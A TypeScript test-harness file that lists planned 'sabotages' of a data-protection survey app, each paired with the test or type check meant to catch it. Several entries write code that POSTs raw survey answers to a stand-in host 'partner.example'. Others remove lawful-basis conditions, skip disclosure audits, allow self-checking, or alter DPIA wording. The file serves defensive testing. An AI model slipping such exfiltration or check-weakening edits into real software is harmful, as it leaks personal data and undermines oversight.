/** What leaves the team, and on what authority (rules 19, 20, and 23 to 26). */
import { by, change, fixture, type Planned, remove, types, write } from "./sabotage.ts"

const router = "src/server/router.ts"
const submit = "src/server/submit.ts"
const matched = "  const matched = yield* match(admitted)\n"
const speaks = by("test", "architecture.test.ts", "nothing speaks to another host by what needs no import")

const sharing: readonly Planned[] = [
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import",
    edits: [
      write(
        "src/server/export.ts",
        `import { request } from "node:https"

export const share = (answers: string) => request("https://partner.example", { method: "POST" }).end(answers)`,
      ),
    ],
    caughtBy: [by("test", "architecture.test.ts", "nothing opens a connection but the browser's own tRPC client")],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import at run time",
    edits: [
      write(
        "src/server/export.ts",
        `export const share = async (answers: string) => {
  const { request } = await import("node:https")
  request("https://partner.example", { method: "POST" }).end(answers)
}`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "of a response",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "by its longer name",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => globalThis.fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
]

const basis: readonly Planned[] = [
  {
    rule: "purpose-and-lawful-basis",
    sabotage: "special category without Art 9 + Sch 1",
    way: "ethnicity with no condition",
    edits: [remove("surveys/characteristics/person.ts", "    condition: substantialPublicInterest,\n")],
    caughtBy: [
      types("purpose-and-lawful-basis"),
      by("test", "policy/purpose-and-lawful-basis.test.ts", "upheld by the six forms"),
    ],
  },
  {
    rule: "purpose-and-lawful-basis",
    sabotage: "special category without Art 9 + Sch 1",
    way: "a condition with no Schedule 1",
    edits: [
      change(
        "surveys/characteristics/condition.ts",
        '["DPA 2018 Sch 1 Part 2 para 6", "DPA 2018 Sch 1 Part 2 para 8"]',
        "[]",
      ),
    ],
    caughtBy: [
      types("purpose-and-lawful-basis"),
      by("test", "policy/purpose-and-lawful-basis.test.ts", "upheld by the six forms"),
    ],
  },
  {
    rule: "purpose-and-lawful-basis",
    sabotage: "special category without Art 9 + Sch 1",
    way: "and the compiler no longer looks",
    edits: [
      change(
        "policy/lawful.ts",
        "PrivacyInformationFirst<F> &\n    PurposeAndLawfulBasis<F>",
        "PrivacyInformationFirst<F>",
      ),
    ],
    caughtBy: [fixture("purpose-and-lawful-basis.ethnicity-without-condition")],
  },
  {
    rule: "purpose-and-lawful-basis",
    sabotage: "Art 10 option untagged",
    edits: [
      change(
        "surveys/characteristics/support.ts",
        '{ key: "youth-offending-team", ...revealsOffence }',
        '{ key: "youth-offending-team" }',
      ),
    ],
    caughtBy: [
      types("purpose-and-lawful-basis"),
      by("test", "policy/purpose-and-lawful-basis.test.ts", "upheld by the six forms"),
    ],
  },
]

const published: readonly Planned[] = [
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "by a procedure",
    edits: [
      change(
        router,
        "import { busy, refused }",
        'import type { Checked } from "../../policy/stage.ts"\nimport { busy, refused }',
      ),
      change(router, "return RegisterMatches.of(exit.value)", "return exit.value as unknown as readonly Checked[]"),
    ],
    caughtBy: [types("raw-data-never-shared")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "as a table",
    edits: [
      write(
        "src/server/publishing.ts",
        `import type { ProposedTable } from "../../policy/disclosure/table.ts"
import type { Checked } from "../../policy/stage.ts"

export const proposed = (rows: readonly Checked[], author: ProposedTable["author"]): ProposedTable => ({
  title: "All answers",
  author,
  geographies: ["England"],
  cells: rows,
})`,
      ),
    ],
    caughtBy: [{ layer: "types", says: "is missing the following properties from type 'Cell'" }],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "in the call",
    edits: [
      write(
        "src/server/publishing.ts",
        `import { nationalOrRegional } from "../../policy/rules/aggregates-only-beyond-the-team.ts"

export const draft = nationalOrRegional({ title: "Hopes by council", geographies: ["E09000007"], cells: [] })`,
      ),
    ],
    caughtBy: [types("aggregates-only-beyond-the-team")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the gate",
    edits: [
      change(
        "policy/rules/aggregates-only-beyond-the-team.ts",
        'geographies.every((each) => each === "England" || Object.hasOwn(regions, each))',
        'geographies.every((each) => each === "England" || each in regions || each.startsWith("E"))',
      ),
    ],
    caughtBy: [by("runtime", "policy/aggregates-only-beyond-the-team.test.ts", "any geography but England")],
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "one suppressed cell per row",
    way: "in the table itself",
    waitsFor: "secondary suppression and its audit",
    until: "policy/disclosure/audit.ts",
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "one suppressed cell per row",
    way: "and nobody waits for the audit",
    edits: [change("policy/rules/small-cells-suppressed.ts", 'return audit.verdict === "safe" && ', "return ")],
    caughtBy: [by("runtime", "policy/small-cells-suppressed.test.ts", "a table whose audit is unsafe")],
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "two overlapping tables",
    waitsFor: "the audit of a table against those released before it",
    until: "policy/disclosure/audit.ts",
  },
  {
    rule: "small-cells-suppressed",
    sabotage: "zero row reveals a group",
    waitsFor: "secondary suppression and its audit",
    until: "policy/disclosure/audit.ts",
  },
]

const outputs = "policy/rules/outputs-checked.ts"

const checking: readonly Planned[] = [
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    edits: [
      change(
        outputs,
        "if (checker.person === author) return",
        "if (checker.person === author && first === second) return",
      ),
    ],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the author as a checker, in either place")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    edits: [change(outputs, "if (first.person === second.person) return", "if (first === undefined) return")],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the same checker twice")],
  },
]

const signOff = "policy/dpia/sign-off.ts"
const nothingSigned = "  signOffs: [],\n"

const document: readonly Planned[] = [
  {
    rule: "dpia-signed-off",
    sabotage: "edit one word of the DPIA",
    way: "in the document itself",
    edits: [
      change("../shared/dpia/dpia.txt", "The CCO will not share the raw data", "The CCO will then share the raw data"),
    ],
    caughtBy: [by("test", "policy/dpia/version.test.ts", "its version is known")],
  },
  {
    rule: "dpia-signed-off",
    sabotage: "edit one word of the DPIA",
    way: "where it stands in for the document",
    edits: [
      change(
        "tests/policy/dpia/made-up-document.ts",
        '  .join("\\n")\n',
        '  .join("\\n")\n  .replace("will not share", "will then share")\n',
      ),
    ],
    caughtBy: [by("test", "policy/dpia/version.test.ts", "a made-up document with every promise has them all")],
  },
  {
    rule: "dpia-signed-off",
    sabotage: "edit one word of the DPIA",
    way: "and the approval of the old one counts",
    edits: [change(signOff, "dpiaVersion.startsWith(dpia)", "dpia !== dpiaVersion.slice(1)")],
    caughtBy: [by("runtime", "policy/opening.test.ts", "an approval of another version of the DPIA")],
  },
  {
    rule: "dpia-signed-off",
    sabotage: "risk set to High",
    edits: [
      change(
        "policy/dpia/readiness.ts",
        'rated?.after === "high" && !isConsulted',
        'rated?.after === "high" && isConsulted',
      ),
    ],
    caughtBy: [by("runtime", "policy/opening.test.ts", "that stays high keeps live shut")],
  },
  {
    rule: "dpia-signed-off",
    sabotage: "blank approver",
    way: "in app.config.ts",
    edits: [
      change(
        "app.config.ts",
        nothingSigned,
        '  signOffs: [{ of: "measures", dpia: "e11d76fc01cd", name: " ", jobTitle: "Director", on: "2027-01-04" }],\n',
      ),
    ],
    caughtBy: [by("schema", "policy/opening.test.ts", "app.config.ts as it stands is read")],
  },
  {
    rule: "dpia-signed-off",
    sabotage: "blank approver",
    way: "past the decoder",
    edits: [change(signOff, "const Person = { name: Said,", "const Person = { name: Schema.String,")],
    caughtBy: [by("schema", "policy/examples.test.ts", "dpia-signed-off")],
  },
]

export const beyondSabotages: readonly Planned[] = [...sharing, ...basis, ...published, ...checking, ...document]
